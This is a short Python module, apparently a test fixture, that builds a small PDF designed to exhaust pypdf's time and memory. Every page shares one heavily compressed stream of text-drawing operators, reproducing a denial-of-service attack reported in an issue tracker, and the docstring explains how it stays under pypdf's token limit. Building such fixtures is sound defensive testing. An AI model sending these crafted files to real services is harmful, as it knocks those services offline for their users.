"""PDFs built to tie up a reader: small on disk, costly to read.

The attack reported in issue 15: many pages share one compressed content stream of several MB of text
drawing instructions, so the file is a few dozen KB, within the upload limits, yet reading its text takes
pypdf minutes per page and a gigabyte.
"""

import zlib


def heavy_pdf(pages=200, content_bytes=10 * 1024 * 1024):
    """A valid PDF of `pages` pages that all draw the same `content_bytes` of text-showing operators.

    Each operator shows a line of text and moves to the next line: few tokens (pypdf refuses a stream of
    more than 2 million), many lines, whose extraction costs pypdf more than linear time.
    """
    operation = b"(Inspection of children's social care services) Tj T*\n"
    content = b"BT /F1 1 Tf 1 TL\n" + operation * (content_bytes // len(operation)) + b"ET\n"
    stream = zlib.compress(content, 9)
    page_ids = range(5, 5 + pages)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [" + b" ".join(b"%d 0 R" % n for n in page_ids) + b"] /Count %d >>" % pages,
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        4: b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    }
    for number in page_ids:
        objects[number] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >>"
            b" /Contents 4 0 R >>"
        )
    output = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(output)
        output += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(output)
    output += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    output += b"".join(b"%010d 00000 n \n" % offsets[number] for number in sorted(objects))
    output += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(output)
